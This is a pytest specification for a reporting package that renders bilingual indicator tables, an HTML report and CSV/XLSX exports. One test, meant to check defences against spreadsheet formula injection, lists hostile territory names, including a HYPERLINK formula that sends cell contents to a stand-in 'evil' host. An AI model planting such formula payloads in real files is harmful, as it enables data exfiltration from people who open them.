"""Specifications of the reports package: what a reader of the tables, report and exports sees.

The warehouse is the small fixture of ``tests/reports_fixtures.py``. One rendered table is kept
as a snapshot in ``tests/reports/test_reports/``; after a reviewed change to the tables, refresh
it with

    .venv/bin/python -m pytest tests/reports/test_reports.py --force-regen
"""

from __future__ import annotations

import csv
import html
import importlib
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest
from python_calamine import CalamineWorkbook

import reports
from indicators import Catalogue, load_catalogue
from indicators.territories import build_membership
from reports import build_domain_table, write_exports, write_report
from reports._tables import (
    FLAGGED_FILL,
    FLAGGED_HATCH,
    INK,
    MARKS,
    MIN_CONTRAST,
    PALETTE,
    contrast_ratio,
    legend_items,
    legend_text,
    shading_text,
)
from tests.reports_fixtures import (
    EPCI,
    GROUP_NAME_FR,
    LOW_RELIABILITY,
    SIGNIFICANT_DOWN,
    SIGNIFICANT_UP,
    SUPPRESSED,
    TERRITORIES,
    THOUSANDS,
    YEAR,
    build_warehouse,
)

NAMES = {code: name for code, _, name in TERRITORIES}


@pytest.fixture(scope="module")
def catalogue() -> Catalogue:
    return load_catalogue()


@pytest.fixture(scope="module")
def con(catalogue: Catalogue) -> duckdb.DuckDBPyConnection:
    """The report fixture with its membership, as a run builds it."""
    con = build_warehouse(catalogue)
    build_membership(con)
    return con


def render(con, catalogue, domain="LL", lang="en", territories=None) -> str:
    return build_domain_table(con, catalogue, domain, YEAR, lang, territories).as_raw_html()


class _Cells(HTMLParser):
    """Body cells of a great-tables table: {(row label, column name): (style, text)}; the
    coverage line under an aggregate's name is kept apart, in ``covers``."""

    def __init__(self) -> None:
        super().__init__()
        self.cells: dict[tuple[str, str], tuple[str, str]] = {}
        self.covers: dict[str, str] = {}
        self._stub = ""
        self._in: str | None = None
        self._attrs: dict[str, str] = {}
        self._text: list[str] = []
        self._cover: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        attributes = {k: v or "" for k, v in attrs}
        if tag == "th" and attributes.get("scope") == "row" or tag == "td" and (
                "headers" in attributes):
            self._in, self._attrs, self._text = tag, attributes, []
        elif tag == "span" and attributes.get("class") == "lci-cover":
            self._cover = []

    def handle_endtag(self, tag):
        if tag == "span" and self._cover is not None:
            self._cover_text = "".join(self._cover)
            self._cover = None
            return
        if tag != self._in:
            return
        content = "".join(self._text).strip()
        if tag == "th":
            self._stub = content
            if getattr(self, "_cover_text", None) is not None:
                self.covers[content] = self._cover_text
                self._cover_text = None
        else:
            column = self._attrs["headers"].split()[-1].split("-", 2)[-1]
            self.cells[(self._stub, column)] = (self._attrs.get("style", ""), content)
        self._in = None

    def handle_data(self, data):
        if self._cover is not None:
            self._cover.append(data)
        elif self._in:
            self._text.append(data)


def cells_of(table_html: str) -> dict[tuple[str, str], tuple[str, str]]:
    parser = _Cells()
    parser.feed(table_html)
    return parser.cells


def covers_of(table_html: str) -> dict[str, str]:
    parser = _Cells()
    parser.feed(table_html)
    return parser.covers


def footer_of(table_html: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", table_html.split("<tfoot>")[1]))


def background(style: str) -> str | None:
    found = re.search(r"background-color: (#[0-9a-fA-F]{6})", style)
    return found.group(1) if found else None


def luminance(colour: str) -> float:
    red, green, blue = (int(colour[i:i + 2], 16) for i in (1, 3, 5))
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


# --- public surface -------------------------------------------------------------------------

def test_every_public_name_imports():
    module = importlib.import_module("reports")
    for name in reports.__all__:
        assert getattr(module, name) is not None, name


def test_an_unsupported_language_is_refused(con, catalogue):
    with pytest.raises(ValueError, match="unsupported language 'de'"):
        build_domain_table(con, catalogue, "LL", YEAR, "de")


# --- domain tables --------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["en", "fr"])
def test_domain_table_shows_every_indicator_label_and_every_territory(con, catalogue, lang):
    for domain in catalogue.domains:
        table = render(con, catalogue, domain.code, lang)
        for indicator in catalogue.in_domain(domain.code):
            assert html.escape(indicator.label(lang)) in table, indicator.id
            assert html.escape(indicator.unit(lang)) in table, indicator.id
        stubs = {row for row, _ in cells_of(table)}
        group_name = GROUP_NAME_FR if lang == "fr" else NAMES["UNESCO_FR"]
        assert stubs == {NAMES[code] for code in NAMES if code != "UNESCO_FR"} | {group_name}


def test_french_table_uses_decimal_commas_narrow_spaces_and_french_labels(con, catalogue):
    table = render(con, catalogue, "SKL", "fr")
    values = [text for _, text in cells_of(table).values()]
    assert any(re.fullmatch(r"\d+,\d.*", v) for v in values)
    assert not any(re.search(r"\d\.\d", v) for v in values)
    assert "1\u202f234" in table  # SKL06 of the EPCI, 0 decimals
    for french in ("Territoire", "Évolution", "Communes", "Départements", "Groupes de territoires",
                   "Diplômés du supérieur (25-34 ans)", GROUP_NAME_FR):
        assert html.escape(french) in table, french
    english = render(con, catalogue, "SKL", "en")
    assert "1,234" in english and "Change" in english


def test_table_rows_follow_the_given_territories_grouped_by_level(con, catalogue):
    chosen = ["56260", "53", "56243", EPCI]
    rows = list(dict.fromkeys(row for row, _ in cells_of(render(con, catalogue, "LL", "en",
                                                                   chosen))))
    assert rows == [NAMES["56260"], NAMES["56243"], NAMES["53"], NAMES[EPCI]]


def test_the_reports_own_territories_come_first_in_bold_and_the_others_by_name(con,
                                                                             catalogue):
    table = build_domain_table(con, catalogue, "LL", YEAR, "en", highlight=["56251", "56"]
                               ).as_raw_html()
    rows = list(dict.fromkeys(row for row, _ in cells_of(table)))
    communes = [NAMES[c] for c in ("56251", "56003", "56243", "56260")]  # then by name
    assert rows[:4] == communes
    bold = re.findall(r'<th style="([^"]*)" scope="row"[^>]*>([^<]*)', table)
    assert {name for style, name in bold if "font-weight: bold" in style} == {
        NAMES["56251"], NAMES["56"]}
    assert "Names in bold with a green rule: the territories this report is about" in \
        footer_of(table)
    plain = render(con, catalogue, "LL", "en")
    assert "Names in bold" not in footer_of(plain) and "font-weight: bold" not in \
        plain.split("<tbody")[1].split("</tbody>")[0].split("lci-sig")[0]


def test_unknown_territories_are_an_error_not_a_gap(con, catalogue):
    with pytest.raises(ValueError, match=r"without any value: \[.99999.\]"):
        build_domain_table(con, catalogue, "LL", YEAR, "en", ["56260", "99999"])


def test_a_suppressed_cell_shows_its_mark_and_no_value(con, catalogue):
    cells = cells_of(render(con, catalogue, "LL", "en"))
    style, content = cells[(NAMES[SUPPRESSED[1]], f"{SUPPRESSED[0]}__value")]
    assert content == MARKS["suppressed"] == "×"
    assert background(style) is None
    assert cells[(NAMES[SUPPRESSED[1]], f"{SUPPRESSED[0]}__ci")][1] == ""


def test_a_low_reliability_value_is_shown_with_its_mark_on_a_neutral_hatched_fill(con,
                                                                                   catalogue):
    cells = cells_of(render(con, catalogue, "LL", "en"))
    style, content = cells[(NAMES[LOW_RELIABILITY[1]], f"{LOW_RELIABILITY[0]}__value")]
    assert re.fullmatch(rf"\d+\.\d\xa0{MARKS['low_reliability']}", content)
    assert "font-style: italic" in style and "repeating-linear-gradient" in style
    assert background(style) == FLAGGED_FILL and background(style) not in PALETTE


def test_values_and_intervals_are_in_separate_cells(con, catalogue):
    """Pasted into a word processor, the value and its interval stay in cells of their own."""
    for lang, number in (("en", r"\d+\.\d"), ("fr", r"\d+,\d")):
        cells = cells_of(render(con, catalogue, "LL", lang))
        value = cells[(NAMES["56260"], "LL01__value")][1]
        interval = cells[(NAMES["56260"], "LL01__ci")][1]
        assert re.fullmatch(number, value), value
        assert re.fullmatch(f"{number}–{number}", interval), interval
    admin = cells_of(render(con, catalogue, "ECO", "en"))
    assert not any(column.endswith("__ci") for _, column in admin if column.startswith("ECO02"))


def test_significant_changes_get_an_arrow_others_stay_plain(con, catalogue):
    table = render(con, catalogue, "LL", "en")
    cells = cells_of(table)
    up = cells[(NAMES[SIGNIFICANT_UP[1]], f"{SIGNIFICANT_UP[0]}__change")][1]
    down = cells[(NAMES[SIGNIFICANT_DOWN[1]], f"{SIGNIFICANT_DOWN[0]}__change")][1]
    plain = cells[(NAMES["53"], "LL01__change")][1]
    assert up == "▲\u202f+9.0" and down == "▼\u202f−8.0"
    assert re.fullmatch(r"[+−]\d\.\d", plain)
    assert '<span class="lci-sig"' in table


def _statuses(con) -> dict[tuple[str, str], tuple[str, bool | None, float | None]]:
    """(territory name, indicator) of the year: status, significance and sign of the change."""
    rows = con.execute(
        "SELECT v.territory_name, v.indicator_id, v.status, c.significant, c.change "
        "FROM indicator_values v LEFT JOIN indicator_changes c USING (indicator_id, "
        "territory_code, territory_level, breakdown, year) "
        "WHERE v.year = ? AND v.breakdown = 'total'", [YEAR]).fetchall()
    return {(name, indicator): (status, significant, change)
            for name, indicator, status, significant, change in rows}


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_a_mark_means_the_same_in_every_table(con, catalogue, lang):
    statuses = _statuses(con)
    names = {GROUP_NAME_FR: NAMES["UNESCO_FR"]}
    seen = set()
    for domain in catalogue.domains:
        table = render(con, catalogue, domain.code, lang)
        assert 'class="gt_footnote_marks"' not in table  # no letter, whose meaning would vary
        for (row, column), (_, content) in cells_of(table).items():
            indicator, part = column.split("__")
            status, significant, change = statuses[(names.get(row, row), indicator)]
            if part == "value":
                assert (content == MARKS["suppressed"]) == (status == "suppressed"), content
                assert (MARKS["low_reliability"] in content) == (status == "low_reliability")
            if part == "change":
                assert (MARKS["significant_up"] in content) == bool(significant and change > 0)
                assert (MARKS["significant_down"] in content) == bool(significant
                                                                     and change < 0)
            seen |= {meaning for meaning, mark in MARKS.items() if mark in content}
    assert seen == set(MARKS)  # the fixture shows every mark


def test_the_legend_is_the_same_words_under_every_table_and_in_the_report(con, catalogue,
                                                                          tmp_path):
    for lang in ("en", "fr"):
        legends = set()
        for domain in catalogue.domains:
            footer = footer_of(render(con, catalogue, domain.code, lang))
            assert legend_text(lang) in footer and shading_text(lang) in footer
            legends.add(legend_text(lang))
        assert len(legends) == 1
        for symbol, meaning in legend_items(lang):
            assert f"{symbol} {meaning}" in legend_text(lang)
        page = html.unescape(write_report(con, catalogue, YEAR, lang, tmp_path / lang).report
                             .read_text(encoding="utf-8"))
        for symbol, meaning in legend_items(lang):
            assert f"{symbol}{':' if lang == 'en' else chr(0xa0) + ':'} {meaning}" in page
    assert "× not published" in legend_text("en") and "◊ fiabilité limitée" in legend_text("fr")


def _shaded(table: str, column: str) -> dict[str, str]:
    """Row label → fill of the shaded cells of ``column`` (flagged fills left out)."""
    return {row: background(style) for (row, col), (style, _) in cells_of(table).items()
            if col == column and background(style) in PALETTE}


def test_a_flagged_cell_never_gets_the_strongest_colour(con, catalogue):
    for domain in catalogue.domains:
        for (_, column), (style, content) in cells_of(render(con, catalogue,
                                                             domain.code)).items():
            if MARKS["low_reliability"] in content:
                assert background(style) == FLAGGED_FILL, column
                assert not any(colour in style for colour in PALETTE), column


def test_a_low_reliability_value_is_left_out_of_the_ranking(catalogue):
    """A flagged value, even the best of its column, neither takes the darkest class nor
    pushes the others down."""
    con = build_warehouse(catalogue)
    con.execute("UPDATE indicator_values SET value = 99 WHERE indicator_id = ? AND "
                "territory_code = ? AND year = ? AND breakdown = 'total'",
                [LOW_RELIABILITY[0], LOW_RELIABILITY[1], YEAR])
    shaded = _shaded(render(con, catalogue, "LL"), f"{LOW_RELIABILITY[0]}__value")
    assert NAMES[LOW_RELIABILITY[1]] not in shaded
    assert PALETTE[-1] in shaded.values()  # the best reliable value is darkest


def test_one_outlier_does_not_wash_out_the_scale(catalogue):
    column = "LL05__value"
    before = _shaded(render(build_warehouse(catalogue), catalogue, "LL"), column)
    con = build_warehouse(catalogue)
    top = max(before, key=lambda row: PALETTE.index(before[row]))
    code = next(c for c, name in NAMES.items() if name == top)
    con.execute("UPDATE indicator_values SET value = value * 50 WHERE indicator_id = 'LL05' "
                "AND territory_code = ? AND year = ? AND breakdown = 'total'", [code, YEAR])
    after = _shaded(render(con, catalogue, "LL"), column)
    assert after == before  # a value fifty times larger only keeps its place
    assert len(set(after.values())) == len(PALETTE)  # the others still spread over the classes


def _colour_pairs(page: str) -> list[tuple[str, str, str]]:
    """(text colour, fill, where) of every cell and span that sets a colour inline, with
    great-tables' defaults (text #333333 on white) where a style leaves one out."""
    pairs = []
    for tag, style in re.findall(r'<(td|th|span)[^>]*style="([^"]*)"', page):
        fill = re.search(r"background-color: (#[0-9a-fA-F]{6})", style)
        ink = re.search(r"(?<![-\w])color: (#[0-9a-fA-F]{6})", style)
        fills = [fill.group(1) if fill else "#ffffff"]
        fills += re.findall(r"repeating-linear-gradient\([^)]*?(#[0-9a-fA-F]{6})", style)
        for colour in fills:
            pairs.append((ink.group(1) if ink else "#333333", colour, f"{tag} {style}"))
    return pairs


def test_every_styled_text_has_aa_contrast(con, catalogue, tmp_path):
    page = write_report(con, catalogue, YEAR, "en", tmp_path).report.read_text(encoding="utf-8")
    pairs = _colour_pairs(page)
    assert {fill for _, fill, _ in pairs} >= {*PALETTE, FLAGGED_FILL, FLAGGED_HATCH}
    for ink, fill, where in pairs:
        assert contrast_ratio(ink, fill) >= MIN_CONTRAST, where
    for css_colour in re.findall(r"\.lci-[\w-]+ \{[^}]*?(?<![-\w])color: (#[0-9a-fA-F]{6})",
                                 page):  # muted labels, on white or the group heading fill
        for fill in ("#ffffff", "#f2f2f2"):
            assert contrast_ratio(css_colour, fill) >= MIN_CONTRAST, css_colour
    assert contrast_ratio(INK, PALETTE[0]) >= MIN_CONTRAST
    assert "opacity" not in page.split("<body")[0]  # no faded text


@pytest.mark.parametrize(("lang", "epci", "group"), [
    ("en", "4 communes", "2 communes"), ("fr", "4 communes", "2 communes")])
def test_aggregate_rows_say_how_many_communes_they_cover(con, catalogue, lang, epci, group):
    covers = covers_of(render(con, catalogue, "LL", lang))
    assert covers[NAMES[EPCI]] == epci and covers[NAMES["56"]] == epci
    assert covers[NAMES["53"]] == epci
    assert covers[GROUP_NAME_FR if lang == "fr" else NAMES["UNESCO_FR"]] == group
    assert not any(NAMES[code] in covers for code in ("56260", "56243", "56251", "56003"))
    footer = footer_of(render(con, catalogue, "LL", lang))
    assert ("how many of its communes have data for 2024" in footer if lang == "en"
            else "nombre de ses communes ayant des données pour 2024" in footer)


def test_an_aggregate_knowing_more_communes_than_have_data_says_of_how_many(catalogue):
    con = build_warehouse(catalogue)
    con.execute("INSERT INTO territories VALUES ('56999', 'COM', 'Île-sans-données', ?, '56', "
                "'53', 2019, NULL), ('56998', 'COM', 'Ancienne commune', ?, '56', '53', 2000, "
                "2018)", [EPCI, EPCI])
    con.execute("INSERT INTO territory_groups VALUES (?, 'g', 'g', '56999'), "
                "(?, 'g', 'g', '99999')", [TERRITORIES[-1][0]] * 2)
    build_membership(con)
    english = covers_of(render(con, catalogue, "LL", "en"))
    assert english[NAMES[EPCI]] == "4 of 5 communes"  # the merged commune is not counted
    assert english[NAMES["UNESCO_FR"]] == "2 of 4 communes"  # groups: as territory_groups says
    french = covers_of(render(con, catalogue, "LL", "fr"))
    assert french[NAMES[EPCI]] == "4 sur 5 communes"


def test_coverage_is_counted_from_the_published_tables_alone(con, catalogue):
    """A report re-rendered from a bundle (no ``territory_members``) says the same; without
    a territories table, no coverage is claimed."""
    bare = build_warehouse(catalogue)
    assert render(bare, catalogue, "LL", "fr") == render(con, catalogue, "LL", "fr")
    bare.execute("DROP TABLE territories")
    table = render(bare, catalogue, "LL", "en")
    assert covers_of(table) == {} and 'class="lci-cover"' not in table


def test_colours_darken_with_better_values_and_reverse_for_lower_is_better(con, catalogue):
    cells = cells_of(render(con, catalogue, "LL", "en"))
    for column, better_is_higher in (("LL01__value", True), ("LL08__value", False)):
        shaded = sorted(
            (float(re.match(r"\d+\.\d", text).group()), luminance(background(style)))
            for (_, col), (style, text) in cells.items()
            if col == column and background(style) in PALETTE
        )
        assert len(shaded) >= 5
        lightness = [light for _, light in shaded]
        expected = sorted(lightness, reverse=better_is_higher)
        assert lightness == expected, column


def test_context_indicators_and_missing_cells_are_not_coloured(con, catalogue):
    cells = cells_of(render(con, catalogue, "LNK", "en"))
    assert all(background(style) is None for (_, col), (style, _) in cells.items()
               if col.startswith(("LNK01", "LNK02")))
    assert any(background(style) for (_, col), (style, _) in cells.items()
               if col == "LNK03__value")
    eco = cells_of(render(con, catalogue, "ECO", "en"))
    assert eco[(NAMES["UNESCO_FR"], "ECO02__value")] == ("", "—")


def test_sources_are_noted_under_the_table(con, catalogue):
    footer = footer_of(render(con, catalogue, "LNK", "en"))
    assert "Source (LNK01, LNK02, LNK03): Home-work commuting flows (census, MOBPRO model)." \
        in footer
    assert "Source (LNK06): Education authority and business club." in footer


def test_domain_table_is_deterministic(con, catalogue):
    assert render(con, catalogue, "LL", "fr") == render(con, catalogue, "LL", "fr")
    assert 'id="lci-ll"' in render(con, catalogue, "LL", "fr")


def test_domain_table_matches_its_snapshot(con, catalogue, file_regression):
    """The body of the LL table for three territories: CI, suppression, significance."""
    table = render(con, catalogue, "LL", "en", ["56260", "56243", EPCI])
    fragment = table[table.index("<table"):table.index("</table>") + len("</table>")]
    file_regression.check(fragment + "\n", basename="domain_table_LL_en", extension=".html")


def test_french_domain_table_matches_its_snapshot(con, catalogue, file_regression):
    """The ECO table in French, highlighting one commune: survey and administrative columns,
    a missing cell, the coverage of the aggregates and the French legend."""
    table = build_domain_table(con, catalogue, "ECO", YEAR, "fr",
                               highlight=["56243"]).as_raw_html()
    fragment = table[table.index("<table"):table.index("</table>") + len("</table>")]
    file_regression.check(fragment + "\n", basename="domain_table_ECO_fr", extension=".html")


# --- report ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def report_en(con, catalogue, tmp_path_factory) -> reports.ReportFiles:
    return write_report(con, catalogue, YEAR, "en", tmp_path_factory.mktemp("en"))


def test_report_has_every_domain_its_tables_and_the_methods(report_en, catalogue):
    page = report_en.report.read_text(encoding="utf-8")
    for domain in catalogue.domains:
        assert f'id="domain-{domain.code}"' in page and f'href="#domain-{domain.code}"' in page
        assert (report_en.report.parent / "tables" / f"{domain.code}.html") in report_en.tables
    assert 'id="methods"' in page and "Methods and definitions" in page
    for indicator in catalogue:
        assert f'id="indicator-{indicator.id}"' in page
    for words in ("Taylor linearisation", "logit scale", "Not published below 30 respondents",
                  "coefficient of variation above 20%", "fewer than 8 design degrees of freedom",
                  "Reliability of survey estimates", "KFLC", "About this report"):
        assert words in page, words
    assert "<script" not in page and "http" not in page.split("<main>")[0]


def test_french_report_is_french_throughout(con, catalogue, tmp_path):
    page = write_report(con, catalogue, YEAR, "fr", tmp_path).report.read_text(encoding="utf-8")
    assert '<html lang="fr">' in page
    for words in ("Indicateurs de la ville apprenante 2024", "Sommaire", "Méthodes et définitions",
                  "linéarisation de Taylor", "Plus bas = mieux", "À propos de ce rapport"):
        assert html.escape(words) in page, words
    for english in ("Methods and definitions", "Contents", "Higher is better", ">Change<"):
        assert english not in page, english


def test_report_files_are_byte_identical_across_runs(con, catalogue, report_en, tmp_path):
    again = write_report(con, catalogue, YEAR, "en", tmp_path)
    for first, second in zip(report_en.all, again.all, strict=True):
        assert first.read_bytes() == second.read_bytes(), first.name


def test_report_title_can_be_set(con, catalogue, tmp_path):
    page = write_report(con, catalogue, YEAR, "en", tmp_path, territories=["56260", "53"],
                        title="Vannes & Brittany").report.read_text(encoding="utf-8")
    assert "<h1>Vannes &amp; Brittany</h1>" in page


# --- exports --------------------------------------------------------------------------------

def test_exports_round_trip_and_are_deterministic(con, catalogue, tmp_path):
    csv_path, xlsx_path, *_ = write_exports(con, catalogue, tmp_path / "one")
    total = con.execute("SELECT count(*) FROM indicator_values").fetchone()[0]
    with csv_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == total
    assert rows[0]["label_en"] == catalogue.get(rows[0]["indicator_id"]).label.en
    assert not any("e" in row["value"].lower() for row in rows)
    keys = [(r["indicator_id"], r["territory_level"], r["territory_code"], r["year"],
             r["breakdown"]) for r in rows]
    assert keys == sorted(keys)
    thousands = next(r for r in rows if (r["indicator_id"], r["territory_code"], r["year"],
                                         r["breakdown"]) == (*THOUSANDS[:2], str(YEAR), "total"))
    assert thousands["value"] == "1234.4"

    book = CalamineWorkbook.from_path(str(xlsx_path))
    assert book.sheet_names == ["Read me", *(d.code for d in catalogue.domains), "Data"]
    data = book.get_sheet_by_name("Data").to_python()
    assert len(data) - 1 == total  # one row per published value, under one header
    assert data[0][:4] == ["Indicator", "Domain", "Label", "Unit"]

    csv_again, xlsx_again, *_ = write_exports(con, catalogue, tmp_path / "two")
    assert csv_again.read_bytes() == csv_path.read_bytes()
    assert xlsx_again.read_bytes() == xlsx_path.read_bytes()


HOSTILE_NAMES = ['=HYPERLINK("http://evil/"&A1,"x")', "=1+2", "@SUM(1+1)", "+1", "-1+1",
                 "\tcmd", "\r=1", "Saint-Malo\r=1+2"]


def test_csv_text_cells_that_spreadsheets_would_run_start_with_a_quote(catalogue, tmp_path):
    con = build_warehouse(catalogue)
    codes = [r[0] for r in con.execute(
        "SELECT DISTINCT territory_code FROM indicator_values ORDER BY 1").fetchall()]
    assert len(codes) >= len(HOSTILE_NAMES)
    named = dict(zip(codes, HOSTILE_NAMES, strict=False))
    for code, name in named.items():
        con.execute("UPDATE indicator_values SET territory_name = ? WHERE territory_code = ?",
                    [name, code])
    con.execute("UPDATE indicator_values SET status_reason = '-5 respondents' "
                "WHERE territory_code = ?", [codes[0]])
    csv_path, xlsx_path, *_ = write_exports(con, catalogue, tmp_path / "one")
    with csv_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {r["territory_code"]: r["territory_name"] for r in rows}
    assert [names[c] for c in named] == [
        '\'=HYPERLINK("http://evil/"&A1,"x")', "'=1+2", "'@SUM(1+1)", "'+1", "'-1+1",
        "'\tcmd", "'\r=1", "Saint-Malo\r=1+2"]  # a CR inside a name is quoted
    assert {r["status_reason"] for r in rows if r["territory_code"] == codes[0]} == \
        {"'-5 respondents"}
    con.execute("UPDATE indicator_values SET value = -value WHERE value IS NOT NULL")
    csv_negative, *_ = write_exports(con, catalogue, tmp_path / "negative")
    with csv_negative.open(encoding="utf-8", newline="") as handle:
        flipped = list(csv.DictReader(handle))
    values = [r["value"] for r in flipped if r["value"] not in ("", "0")]
    assert values and all(v.startswith("-") and float(v) < 0 for v in values)  # numbers stay
    again, *_ = write_exports(con, catalogue, tmp_path / "two")
    assert again.read_bytes() == csv_negative.read_bytes()

    # The workbook writes every string as text: no cell of it is a formula.
    with zipfile.ZipFile(xlsx_path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n)
                                  for n in sheets)
    book = CalamineWorkbook.from_path(str(xlsx_path))
    cells = {c for d in catalogue.domains for row in book.get_sheet_by_name(d.code).to_python()
             for c in row if isinstance(c, str)}
    assert {'=HYPERLINK("http://evil/"&A1,"x")', "=1+2", "@SUM(1+1)", "-1+1"} <= cells


def test_exports_refuse_indicators_missing_from_the_catalogue(catalogue, tmp_path):
    con = build_warehouse(catalogue)
    con.execute("UPDATE indicator_values SET indicator_id = 'ZZ99' WHERE indicator_id = 'LL01'")
    with pytest.raises(ValueError, match=r"missing from the catalogue: \['ZZ99'\]"):
        write_exports(con, catalogue, tmp_path)
    assert not list(Path(tmp_path).glob("*.csv"))
